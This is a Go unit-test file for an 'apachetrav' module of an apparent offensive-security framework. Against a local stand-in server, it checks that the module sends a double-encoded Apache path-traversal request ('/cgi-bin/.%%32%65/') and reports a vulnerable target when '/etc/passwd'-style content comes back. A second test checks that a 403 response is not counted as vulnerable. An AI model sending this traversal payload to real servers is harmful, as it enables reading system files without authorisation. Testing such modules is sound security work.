package apachetrav

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"strings"
	"testing"
	"time"

	"github.com/charmbracelet/log"

	"github.com/arsenal-framework/arsenal/internal/app"
)

func testContext() app.Context {
	return app.Context{
		Ctx:    context.Background(),
		Logger: log.New(io.Discard),
		Now:    time.Now(),
	}
}

// rawServer answers with a canned HTTP response and records the request
// line verbatim. The double-encoded traversal path is not a parseable
// URL, so a stock HTTP server cannot stand in here.
func rawServer(t *testing.T, status int, body string) (host, port string, requestLine *string) {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatalf("listen: %v", err)
	}
	t.Cleanup(func() { _ = ln.Close() })

	var line string
	requestLine = &line
	go func() {
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			r := bufio.NewReader(conn)
			line, _ = r.ReadString('\n')
			for {
				h, err := r.ReadString('\n')
				if err != nil || h == "\r\n" || h == "\n" {
					break
				}
			}
			fmt.Fprintf(conn, "HTTP/1.1 %d X\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", status, len(body), body)
			_ = conn.Close()
		}
	}()
	h, p, _ := net.SplitHostPort(ln.Addr().String())
	return h, p, requestLine
}

func configured(t *testing.T, host, port string) *Module {
	t.Helper()
	m := New().(*Module)
	if err := m.Options().Set("RHOST", host); err != nil {
		t.Fatalf("set RHOST: %v", err)
	}
	if err := m.Options().Set("RPORT", port); err != nil {
		t.Fatalf("set RPORT: %v", err)
	}
	return m
}

func TestDoubleEncodedPathSurvivesClient(t *testing.T) {
	host, port, requestLine := rawServer(t, 200, "root:x:0:0:root:/root:/bin/bash\n")

	out, err := configured(t, host, port).Execute(testContext())
	if err != nil {
		t.Fatalf("execute: %v", err)
	}
	if !strings.Contains(*requestLine, "/cgi-bin/.%%32%65/") {
		t.Fatalf("double-encoded segments were mangled: %q", *requestLine)
	}
	if !out.Success {
		t.Fatalf("expected vulnerable verdict, got %q", out.Summary)
	}
	if !strings.Contains(out.Data["content"].(string), "root:x:0:0") {
		t.Fatal("file content missing from outcome")
	}
}

func TestForbiddenNotVulnerable(t *testing.T) {
	host, port, _ := rawServer(t, 403, "forbidden")

	out, err := configured(t, host, port).Execute(testContext())
	if err != nil {
		t.Fatalf("execute: %v", err)
	}
	if out.Success {
		t.Fatal("403 must not count as vulnerable")
	}
	if out.Data["status"] != 403 {
		t.Fatalf("status not recorded: %v", out.Data["status"])
	}
}
